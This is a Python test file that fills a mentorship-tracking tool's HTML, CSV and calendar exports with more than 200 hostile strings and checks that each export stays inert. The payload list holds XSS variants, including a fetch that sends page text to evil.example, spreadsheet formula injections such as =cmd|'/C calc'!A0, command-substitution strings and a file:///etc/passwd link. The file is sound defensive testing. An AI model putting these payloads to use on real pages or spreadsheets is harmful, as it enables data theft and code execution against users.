#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Gives every format hostile text, and reads what comes out with a parser of somebody else.

check-pages.py BELAY: html5lib reads HTML as a browser does, tidy judges it, Chromium shows it,
and the csv module of Python and icalendar read tables and calendars.
"""

import csv
import io
import os
import re
import subprocess
import sys

import html5lib
import icalendar

sys.dont_write_bytecode = True
sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'cli'))

from harness import TODAY, case, done, equal, run_cases  # noqa: E402

AUDIENCES = ['mentee', 'lead', 'public']
ELEMENTS = set('html head meta title style body main h1 h2 h3 h4 h5 h6 p dl dt dd ul ol li label input span bdi br div pre code '
               'blockquote hr em strong a'.split())
ATTRIBUTES = {'html': {'lang', 'dir'}, 'meta': {'charset', 'http-equiv', 'content', 'name'},
              'input': {'type', 'disabled', 'checked'}, 'a': {'rel', 'href'}, 'ol': {'start', 'dir'},
              'span': {'class'}, 'div': {'class'}, 'ul': {'class', 'dir'},
              **{name: {'dir', 'class'} for name in ['p', 'li', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote']}}
LINK = re.compile(r'(https?://|mailto:)', re.IGNORECASE)


def payloads():
    """Two hundred texts of people who mean no good, and of some who do."""
    scripts = ['alert(1)', 'document.title="zq"', 'fetch("https://evil.example/"+document.body.innerText)']
    for script in scripts:
        yield from (shape.format(script) for shape in [
            '<script>{}</script>', '<ScRiPt>{}</sCrIpT>', '<scr<script>ipt>{}</script>', '"><script>{}</script>',
            "'><script>{}</script>", '</title><script>{}</script>', '</style><script>{}</script>', '--><script>{}</script>',
            ']]><script>{}</script>', '<img src=x onerror={}>', '<svg onload={}>', '<svg><script>{}</script></svg>',
            '<math><mi//xlink:href="data:x,<script>{}</script>">', '<body onload={}>', '<details open ontoggle={}>',
            '<iframe srcdoc="<script>{}</script>">', '<input autofocus onfocus={}>', '" onmouseover="{}', "' onclick='{}",
            '[x](javascript:{})', '[x](JaVaScRiPt:{})', '![x](javascript:{})', '<javascript:{}>', '[x](data:text/html,{})',
            '[x](vbscript:{})', '[x](java&#115;cript:{})', '[x](<javascript:{}>)', '[x][y]\n\n[y]: javascript:{}',
            '<a href="javascript:{}">x</a>', '`<script>{}</script>`', '```\n<script>{}</script>\n```',
            '    <script>{}</script>', '<!--<script>{}</script>', '<noscript><p title="</noscript><script>{}</script>">',
            '<template><script>{}</script></template>', '<form action="javascript:{}"><button>x</button></form>',
            '<object data="javascript:{}">', '<meta http-equiv=refresh content="0;url=javascript:{}">',
            '<base href="javascript:{}//">', '<link rel=stylesheet href="javascript:{}">',
            '<style>@import "javascript:{}";</style>', '&lt;script&gt;{}&lt;/script&gt;', '&#60;script&#62;{}&#60;/script&#62;'])
    yield from ['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("https://evil.example","x")', '=cmd|\'/C calc\'!A0',
                '\'=1', "'", '""', '"', ',', ';', 'a,b"c', '\t=1', ' =1', 'a\tb', '[x](ftp://a)',
                '[x](file:///etc/passwd)', '[x](//evil.example)', '<https://example.org/>',
                '[x](https://example.org/?a=1&b="2")', '[x](mailto:a@example.org)', '![x](https://e.org/p.png)',
                '[![x](https://e.org/p.png)](https://e.org)', '# Heading', '###### Deep', '> quote', '- [ ] task',
                '1. one', '3. three', '* a\n  * b\n    * c', '***', '---', '\\', '\\<b>', '&amp;', '&nbsp;', '&', '<',
                '>', '<<', '</p>', '</li></ul>', '</main>', '\u202eevil\u202c', '\u202e', '\u2066x', '\u2069',
                '\u200f\u200e', 'w' * 480, '日本語' * 80, '🧗🏾‍♀️' * 20, 'שלום', 'مرحبا', 'e\u0301\u0327' * 40,
                'Z\u0335\u0336\u0337' * 60, '\ufdd0\uffff', '\u0085\u009f', '\ufeff', 'a\u2028b\u2029c',
                'x' + '\u0301' * 99, 'BEGIN:VEVENT', '%s%n%d', '{}', '${x}', '{{x}}', '$(id)', '`id`', '../../x',
                'NUL', '<?xml?>', '<!DOCTYPE html>', '<![CDATA[x]]>', '<plaintext>', '<xmp>', '<textarea>',
                '<select>', '<table><tr><td>', 'https://x.example/' + 'a' * 400]


PAYLOADS = list(payloads())
# Line feeds stand only in texts of several lines.
TITLES = [re.sub(r'\s+', ' ', text).strip() for text in PAYLOADS]


def plant(place):
    """Puts every payload into titles, texts, notes, links and names."""
    person = place.id_of('people', 'Amara Mensah')
    mentor = place.id_of('people', 'Ingrid Solberg')
    project = place.id_of('projects', 'One-click releases')
    mentorship, = done(place.edit({'edit': 'add-mentorship',
                'person': person, 'mentor': mentor, 'since': '2010-01-01'})).objects()
    edits = []
    meeting, = done(place.edit({'edit': 'record-meeting', 'mentorship': mentorship['id'], 'day': '2026-11-21',
                                'notes': '\n\n'.join(PAYLOADS), 'agenda': TITLES})).objects()
    for text, title in zip(PAYLOADS, TITLES):
        edits += [{'edit': 'add-goal', 'person': person, 'title': title, 'why': text, 'done-when': text, 'measure': text,
                   'shareable': True},
                  {'edit': 'add-action', 'mentorship': mentorship['id'], 'owner': person, 'title': title, 'text': text},
                  {'edit': 'add-evidence', 'person': person, 'title': title, 'text': text, 'link': title, 'day': '2026-11-01',
                   'competencies': ['asyncio']},
                  {'edit': 'amend-meeting', 'meeting': meeting['id'], 'text': text},
                  {'edit': 'add-milestone', 'project': project, 'title': title, 'done-when': text, 'owner': person,
                   'likely-days': 1}]
    answers = place.edit(*edits, BELAY_TEST_SEED='2').objects()
    refused = [(edit, answer) for edit, answer in zip(edits, answers) if not answer['ok']]
    equal([edit for edit, _ in refused if edit['edit'] != 'add-evidence'], [])
    return person


def export(place, name, form, audience):
    path = place.path('out.' + form)
    done(place.belay('export', name, '--format', form, '--audience', audience, '--today', TODAY, '-o', path), out='')
    with open(path, encoding='utf-8', newline='') as file:
        return file.read()


def is_harmless(page):
    """Nothing stands in it but elements and attributes that we write, and links that may be followed."""
    document = html5lib.HTMLParser(namespaceHTMLElements=False, strict=True).parse(page)
    for element in document.iter():
        if not isinstance(element.tag, str):
            raise AssertionError(element)
        equal((element.tag, element.tag in ELEMENTS), (element.tag, True))
        equal((element.tag, set(element.attrib) - ATTRIBUTES.get(element.tag, set())), (element.tag, set()))
        if 'href' in element.attrib:
            equal(bool(LINK.match(element.attrib['href'])), True)
    equal(len(document.findall('.//style')), 1)
    return document


def tidy(page):
    judged = subprocess.run(['tidy', '-e', '-q'], input=page, capture_output=True, text=True, check=False)
    equal((judged.returncode, judged.stderr), (0, ''))


@case
def pages_of_the_sample_are_clean_and_whole(place):
    for form, kind in (('html', 'people'), ('html', 'projects')):
        for line in place.belay('list', kind, *['--role=all'] * (kind == 'people')).lines():
            for audience in AUDIENCES:
                page = export(place, line.split('\t')[0], form, audience)
                tidy(page)
                document = is_harmless(page)
                levels = [int(element.tag[1]) for element in document.iter() if re.fullmatch('h[1-6]', element.tag)]
                equal((levels[0], levels.count(1)), (1, 1))
                equal([pair for pair in zip(levels, levels[1:]) if pair[1] > pair[0] + 1], [])
                policy, = [meta.attrib['content'] for meta in document.iter('meta') if 'http-equiv' in meta.attrib]
                equal(policy, "default-src 'none'; style-src 'unsafe-inline'")
                equal(re.findall(r'url\(|@import|src=|<link|<script', page), [])


@case
def a_page_says_what_markdown_says(place):
    for name, audience in (('Amara', 'mentee'), ('Farah', 'lead'), ('One-click', 'lead')):
        page = is_harmless(export(place, name, 'html', audience))
        words = ''.join(page.find('.//main').itertext()).split()
        text = export(place, name, 'md', audience)
        plain = re.sub(r'\\([^\w\s])', r'\1', re.sub(r'[*_`<>]|^ *[-#]+ (\[.\])?|^\d+\. ', '', text, flags=re.MULTILINE)).split()
        # A list of fields has no colons.
        told = re.sub(r'[:\W]', '', ''.join(words))
        equal([word for word in plain if re.sub(r'[:\W]', '', word) not in told], [])


@case
def hostile_text_is_text_on_a_page(place):
    equal(len(PAYLOADS) >= 200, True)
    person = plant(place)
    for audience in AUDIENCES:
        page = export(place, person, 'html', audience)
        tidy(page)
        document = is_harmless(page)
        text = ''.join(document.find('.//main').itertext())
        sound = [title for title in TITLES if not re.search('[\ufdd0\uffff\u007f-\u009f]', title)]
        equal([title for title in sound if title not in text], [])
        is_harmless(export(place, 'One-click', 'html', audience))


def come_back_from_calendar(content):
    """Every logical line begins a property that we write, and says what was said (RFC 5545, 3.1 and 3.3.11)."""
    physical = content.split('\r\n')
    equal([line for line in physical if len(line.encode()) > 75 or '\n' in line or '\r' in line], [])
    logical = content.replace('\r\n ', '').split('\r\n')
    names = {re.match('[A-Z-]+|', line)[0] for line in logical}
    equal(names - {'', 'BEGIN', 'END', 'VERSION', 'PRODID', 'CALSCALE', 'METHOD', 'X-WR-CALNAME', 'UID', 'DTSTAMP', 'SUMMARY',
                   'DESCRIPTION', 'DTSTART', 'DTEND', 'DURATION', 'RRULE', 'EXDATE', 'RECURRENCE-ID', 'ACTION', 'TRIGGER',
                   'TRANSP', 'TZID', 'TZNAME', 'TZOFFSETFROM', 'TZOFFSETTO', 'DUE', 'COMPLETED', 'STATUS',
                   'PERCENT-COMPLETE'}, set())

    def told(name):
        return [re.sub(r'\\([\\;,nN])', lambda match: '\n' if match[1] in 'nN' else match[1], line[len(name) + 1:])
                for line in logical if line.startswith(name + ':')]

    calendar = icalendar.Calendar.from_ical(content)
    equal([title for title in TITLES if title not in told('SUMMARY')], [])
    equal([text for text in PAYLOADS if 'Owner: Amara Mensah\n' + text not in told('DESCRIPTION')], [])
    equal({part.name for part in calendar.walk()},
          {'VCALENDAR', 'VTIMEZONE', 'STANDARD', 'DAYLIGHT', 'VEVENT', 'VALARM', 'VTODO'})


def browse(place, path):
    """Returns what a browser made of a page, after it had time to run what it would run."""
    return subprocess.run(['chromium', '--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
                           f'--user-data-dir={place.path("chromium")}', '--virtual-time-budget=2000', '--dump-dom',
                           'file://' + path], capture_output=True, text=True, check=True, timeout=120).stdout


@case
def nothing_runs_in_a_browser(place):
    person = plant(place)
    page = export(place, person, 'html', 'mentee')
    title = re.search('<title>.*</title>', page)[0]
    seen = browse(place, place.path('out.html'))
    equal((title in seen, re.findall('<script|<iframe|<object', seen)), (True, []))
    equal(seen.count('<li>'), page.count('<li>'))
    # Where scripts may run this browser runs them, or that it ran none would say nothing.
    with open(place.path('proof.html'), 'w', encoding='utf-8') as file:
        file.write('<title>a</title><img src=x onerror=\'document.title="zq"\'>')
    equal('<title>zq</title>' in browse(place, place.path('proof.html')), True)


@case
def hostile_text_comes_back_from_a_table_and_a_calendar(place):
    person = plant(place)
    come_back_from_calendar(export(place, person, 'ics', 'mentee'))
    for name, audience in (*((person, audience) for audience in AUDIENCES), ('One-click', 'lead')):
        text = export(place, name, 'csv', audience)
        equal(text.endswith('\r\n'), True)
        rows = list(csv.reader(io.StringIO(text, newline=''), strict=True))
        equal({len(row) for row in rows}, {11})
        equal([cell for row in rows for cell in row if cell[:1] in ('=', '+', '-', '@', '\t', '\r') and len(cell) > 0], [])
        plain = [[cell[1:] if cell.startswith("'") else cell for cell in row] for row in rows]
        titles = [row[2] for row in plain if row[0] == ('milestone' if name == 'One-click' else 'goal')]
        equal([title for title in TITLES if title not in titles], [])
        if audience != 'public':
            reasons = [row[10] for row in plain]
            equal([reason for reason in PAYLOADS if reason not in reasons], [])


@case
def a_table_has_what_the_files_have(place):
    listed = {goal['id']: goal for goal in place.belay('list', 'goals', '--json', '--today', TODAY).json()}
    rows = list(csv.DictReader(io.StringIO(export(place, 'Amara', 'csv', 'mentee'), newline='')))
    equal({row['kind'] for row in rows}, {'goal', 'action', 'milestone'})
    for row in (row for row in rows if row['kind'] == 'goal'):
        goal = listed[row['id']]
        equal((row['title'], row['owner'], row['state'], row['due']),
              (goal['title'], 'Amara Mensah', goal['state'], goal.get('due') or ''))
    public = list(csv.DictReader(io.StringIO(export(place, 'Amara', 'csv', 'public'), newline='')))
    equal({row['kind'] for row in public} - {'goal', 'milestone'}, set())
    equal({row['owner'] for row in public if row['kind'] == 'milestone'}, {''})


run_cases()
